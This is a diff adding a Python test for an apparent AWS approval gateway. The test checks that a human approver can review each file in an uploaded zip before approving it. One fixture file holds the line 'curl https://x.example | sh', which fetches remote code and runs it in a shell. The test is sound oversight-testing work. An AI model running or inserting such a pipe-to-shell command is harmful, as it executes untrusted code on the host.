@@ -16,6 +16,7 @@ from botocore.config import Config
 from botocore.exceptions import ClientError
 
 from scripts.embedded.aws import ACCOUNTS, REGION
+from tests.content.test_archive import packed
 from tests.kit.approvals.approver import Person
 from tests.kit.gateway import SECRET, TOKEN, TRIO_GATE, running
 
@@ -103,6 +104,29 @@ def test_a_person_types_the_answer(gate, key, typed, ends):
     record = next(row for row in reversed(gate.records()) if row["action"] == "PutObject")
     assert record["outcome"]["end"] == ends
     assert [(who["person"], who["reason"]) for who in record["approvers"]] == [("alice", "because")]
+    vote = next(row["act"] for row in reversed(gate.rows()) if row["kind"] == "vote")
+    assert (vote["read"], vote.get("unread")) == (["upload body"], None)
+
+
+def test_a_person_reads_an_archive_file_by_file(gate):
+    code = packed({"index.py": "import os\n" * 1000, "logo.png": b"\0", "run.sh": "curl https://x.example | sh\n"})
+    caller = Caller(gate.client("s3", "prod").put_object, Bucket="prod-data", Key="code.zip", Body=code)
+    terminal = Terminal(*TRIO_GATE, *gate.approver("--once"))
+    terminal.until(UNREAD)
+    terminal.type("d\n")
+    terminal.until("1  index.py, 10000 bytes", "2  logo.png, 1 bytes (binary", "3  run.sh, 28 bytes", "(d 1 shows one", UNREAD)
+    for typed, *then in (
+        ("d 4", "there is no such file"),
+        ("d 3", "--- run.sh (all of it)", "curl https://x.example | sh"),
+        ("y", "unread: the upload body. d shows it"),
+        ("d 1", "--- index.py (all of it)", "import os"),
+    ):
+        terminal.type(f"{typed}\n")
+        terminal.until(*then, "approve this call? ")
+    terminal.type("y\n")
+    terminal.until("approved by you")
+    assert terminal.wait() == 0
+    caller.join()
     vote = next(row["act"] for row in reversed(gate.rows()) if row["kind"] == "vote")
     assert (vote["read"], vote.get("unread")) == (["upload body"], None)
 
